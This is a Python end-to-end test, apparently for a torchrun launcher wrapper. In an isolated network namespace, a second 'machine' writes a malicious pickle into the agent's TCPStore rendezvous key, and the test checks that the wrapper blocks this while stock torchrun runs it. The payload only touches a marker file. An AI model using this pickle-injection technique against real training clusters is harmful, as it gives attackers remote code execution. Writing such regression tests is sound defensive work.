"""Another machine on the network puts a pickle where torchrun would unpickle it: the store of its agent."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest

from tests.e2e.hosts import NAMESPACES

pytestmark = [pytest.mark.processes, pytest.mark.slow]

TIMEOUT = 120
ID = "job"
# Two machines: this network, with the agent, and another one, with the attacker. All ends with the script.
NETWORK = """
set -euo pipefail
mount -t tmpfs tmpfs /run
ip netns add other
ip link add fab0 type veth peer name fab0 netns other
ip address add 10.78.0.1/24 dev fab0
ip -n other address add 10.78.0.2/24 dev fab0
for interface in lo fab0; do
    ip link set "$interface" up
    ip -n other link set "$interface" up
done
python=$1 folder=$2
shift 2
"$python" "$@" "$folder/rank.py" "$folder" &
"$python" "$folder/ports.py" "$folder"
nsenter --net=/run/netns/other "$python" "$folder/attack.py" "$folder" 10.78.0.1
"$python" "$folder/attack.py" "$folder" 127.0.0.1
sleep 5 # an agent looks at its store every second
"""
RANK = """
import sys, time
from pathlib import Path

(Path(sys.argv[1]) / "up").touch()
time.sleep(600)
"""
PORTS = f"""
import sys, time
from pathlib import Path

import psutil

folder, until = Path(sys.argv[1]), time.monotonic() + {TIMEOUT}
while not (folder / "up").exists():
    assert time.monotonic() < until
    time.sleep(0.05)
found = {{one.laddr.port for one in psutil.net_connections("tcp") if one.status == psutil.CONN_LISTEN}}
(folder / "ports").write_text(" ".join(map(str, found)))
"""
ATTACK = f"""
import base64, pickle, sys
from datetime import timedelta
from pathlib import Path

from torch.distributed import TCPStore

folder, address = Path(sys.argv[1]), sys.argv[2]

class Pickle:
    def __reduce__(self):
        return Path.touch, (folder / f"ran-{{address}}",)

for port in (folder / "ports").read_text().split():
    try:
        store = TCPStore(address, int(port), is_master=False, wait_for_workers=False, timeout=timedelta(seconds=2))
    except Exception as error:
        assert "refused" in str(error) or "timed out" in str(error).lower(), error
        continue
    (folder / f"reached-{{address}}").touch()
    store.set("torch.rendezvous.{ID}", base64.b64encode(pickle.dumps(Pickle())))
"""


def attacked(agent: list[str], folder: Path) -> set[str]:
    """From which address the agent's store was reached, and whether the pickle ran."""
    for name, script in {"rank": RANK, "ports": PORTS, "attack": ATTACK}.items():
        (folder / f"{name}.py").write_text(script)
    command = [*NAMESPACES, "--kill-child", "bash", "-c", NETWORK, "attack", sys.executable, str(folder)]
    options = [*agent, f"--rdzv-id={ID}", "--nproc-per-node=1"]
    done = subprocess.run([*command, *options], capture_output=True, text=True, timeout=3 * TIMEOUT)
    assert done.returncode == 0, done.stderr
    return {file.name for file in folder.iterdir() if file.name.startswith(("reached-", "ran-"))}


def test_another_machine_does_not_reach_the_store_and_a_pickle_in_it_is_not_run(tmp_path: Path) -> None:
    assert attacked(["-m", "megatron_collab.launch.torchrun"], tmp_path) == {"reached-127.0.0.1"}


def test_torchrun_itself_runs_it(tmp_path: Path) -> None:
    """Which shows that the attack is one."""
    agent = ["-m", "torch.distributed.run", "--rdzv-backend=c10d", "--rdzv-endpoint=127.0.0.1:0"]
    assert attacked(agent, tmp_path) >= {"reached-10.78.0.1", "ran-10.78.0.1"}
